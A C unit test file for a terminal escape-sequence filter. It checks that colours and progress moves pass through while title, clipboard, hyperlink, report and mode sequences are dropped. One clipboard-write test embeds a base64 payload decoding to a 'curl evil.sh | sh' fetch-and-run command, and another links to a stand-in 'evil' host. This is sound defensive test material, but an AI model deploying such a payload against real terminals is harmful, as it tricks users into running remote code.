/* Unit tests for the terminal-safe output filter (src/mags/termsafe.c):
 * what a hostile sandbox could send a user's terminal is dropped, text,
 * colours and progress-bar moves go through, also split across writes. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "mags/termsafe.h"

/* in filtered in one piece, and byte by byte: both must give want */
static void check(const char *in, size_t len, const char *want)
{
	char out[4096];
	struct termsafe ts = { 0 };
	size_t n = termsafe_filter(&ts, in, len, out);

	out[n] = 0;
	assert_int_equal(n, strlen(want));
	assert_memory_equal(out, want, n);

	struct termsafe ts2 = { 0 };
	size_t m = 0;
	for (size_t i = 0; i < len; i++)
		m += termsafe_filter(&ts2, in + i, 1, out + m);
	assert_int_equal(m, strlen(want));
	assert_memory_equal(out, want, m);
}

#define CHECK(in, want) check(in, sizeof(in) - 1, want)

static void text_and_allowed_controls_pass(void **state)
{
	(void)state;
	CHECK("hello, world\n\ttab\r\b\a", "hello, world\n\ttab\r\b\a");
	CHECK("caf\xc3\xa9 \xe2\x9c\x93 \xc2\xa0nbsp", "caf\xc3\xa9 \xe2\x9c\x93 \xc2\xa0nbsp");
}

static void colours_and_progress_moves_pass(void **state)
{
	(void)state;
	CHECK("\x1b[1;31mred\x1b[0m", "\x1b[1;31mred\x1b[0m");
	CHECK("\x1b[38:5:208mx\x1b[m", "\x1b[38:5:208mx\x1b[m");
	CHECK("50%\r\x1b[K\x1b[2A\x1b[10G", "50%\r\x1b[K\x1b[2A\x1b[10G");
}

static void osc_title_clipboard_and_links_are_dropped(void **state)
{
	(void)state;
	/* CVE-class: terminal title and clipboard writes (OSC 0/2/52), hyperlinks */
	CHECK("a\x1b]0;pwned\x07" "b", "ab");
	CHECK("a\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x1b\\b", "ab");
	CHECK("\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\", "click");
	/* DCS, APC, PM, SOS strings */
	CHECK("x\x1bP+q544e\x1b\\y\x1b_apc\x1b\\z\x1b^pm\x07w\x1bXsos\x1b\\v", "xyzwv");
}

static void reports_modes_and_resets_are_dropped(void **state)
{
	(void)state;
	/* device status / title reports make the terminal "type" an answer */
	CHECK("\x1b[6n\x1b[21t\x1b[>c", "");
	/* private modes (alternate screen, mouse, bracketed paste off) */
	CHECK("\x1b[?1049h\x1b[?1000h\x1b[?2004l" "ok", "ok");
	/* screen clear, scroll region, insert line, reset, charset switch */
	CHECK("\x1b[2J\x1b[1;5r\x1b[L\x1b" "c\x1b(0q\x0e\x0f" "done", "qdone");
	/* other C0 controls */
	CHECK("a\x01\x02\x7f" "b\x00" "c", "a\x7f" "bc");
}

static void c1_controls_are_dropped(void **state)
{
	(void)state;
	/* U+009B is CSI, U+009D is OSC for terminals that take 8-bit C1 */
	CHECK("a\xc2\x9b" "6nb\xc2\x9d" "0;t\x07" "c", "a6nb0;t\x07" "c");
}

static void broken_and_overlong_sequences_end_safely(void **state)
{
	(void)state;
	CHECK("\x1b[1;2\n" "after", "after");   /* a control inside a CSI ends it */
	char in[200];
	size_t n = 0;
	in[n++] = 0x1b;
	in[n++] = '[';
	for (int i = 0; i < 100; i++)
		in[n++] = '1';
	in[n++] = 'm';
	memcpy(in + n, "ok", 2);
	n += 2;
	check(in, n, "ok");                      /* too long to keep: dropped */
	CHECK("\x1b\x1b[31mx", "\x1b[31mx");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(text_and_allowed_controls_pass),
		cmocka_unit_test(colours_and_progress_moves_pass),
		cmocka_unit_test(osc_title_clipboard_and_links_are_dropped),
		cmocka_unit_test(reports_modes_and_resets_are_dropped),
		cmocka_unit_test(c1_controls_are_dropped),
		cmocka_unit_test(broken_and_overlong_sequences_end_safely),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
